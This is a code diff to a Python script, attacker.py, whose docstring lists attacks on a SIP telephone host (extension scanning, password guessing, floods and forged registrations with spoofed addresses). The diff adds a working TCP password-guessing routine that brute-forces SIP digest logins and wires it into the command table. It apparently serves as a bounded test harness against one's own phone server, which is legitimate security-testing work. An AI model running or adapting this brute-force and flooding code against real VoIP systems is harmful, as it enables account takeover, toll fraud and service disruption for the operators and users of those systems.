@@ -1,6 +1,6 @@
 """Attacks on a telephone host, each bounded in count and time; prints what came back as JSON.
 
-attacker.py scan SERVER FIRST LAST · guess SERVER USER TRIES SECONDS ·
+attacker.py scan SERVER FIRST LAST · guess, guess-tcp SERVER USER TRIES SECONDS ·
 login SERVER USER PASSWORD TRIES · flood SERVER NUMBER COUNT SECONDS [FORGED ADDRESS:PORT] ·
 forge SERVER USER FORGED ADDRESS:PORT TRIES · start SERVER FIRST_SOURCE SOURCES PHONES
 Beside it lies mairie/host/looks/sip.py, which words the messages.
@@ -68,6 +68,36 @@ def guess(server: str, user: str, tries: str, seconds: str) -> dict[str, Any]:
                 break
             sent += 1
             told[_log_in(asking, server, user, f"guess-{number}")] += 1
+    return {"sent": sent, "told": told}
+
+
+def guess_tcp(server: str, user: str, tries: str, seconds: str) -> dict[str, Any]:
+    """Try passwords over one connection."""
+    end, told, sent = time.monotonic() + float(seconds), Counter[str](), 0
+    with socket.create_connection((server, PORT), 3) as asking:
+        asking.settimeout(PATIENCE_S)
+
+        def ask(text: str) -> str:
+            asking.sendall(text.replace("SIP/2.0/UDP", "SIP/2.0/TCP").encode())
+            got = b""
+            while not got.endswith(b"\r\n\r\n"):
+                part = asking.recv(65535)
+                if not part:
+                    raise ConnectionResetError
+                got += part
+            return got.decode(errors="replace")
+
+        for number in range(int(tries)):
+            if time.monotonic() > end:
+                break
+            sent += 1
+            try:
+                answer = ask(sip._register(asking, user, f"tcp{number}", 1))
+                signed = sip._authorization(answer, user, f"guess-{number}", f"sip:{server}:{PORT}")
+                again = sip._register(asking, user, f"tcp{number}", 2, signed)
+                told[f"{status(ask(again))} to a password"] += 1
+            except (OSError, StopIteration):
+                told["nothing"] += 1
     return {"sent": sent, "told": told}
 
 
@@ -154,6 +184,7 @@ def start(server: str, first: str, sources: str, phones: str) -> dict[str, Any]:
 if __name__ == "__main__":
     kind, *words = sys.argv[1:]
     deeds = {
+        "guess-tcp": guess_tcp,
         "scan": scan,
         "guess": guess,
         "login": login,
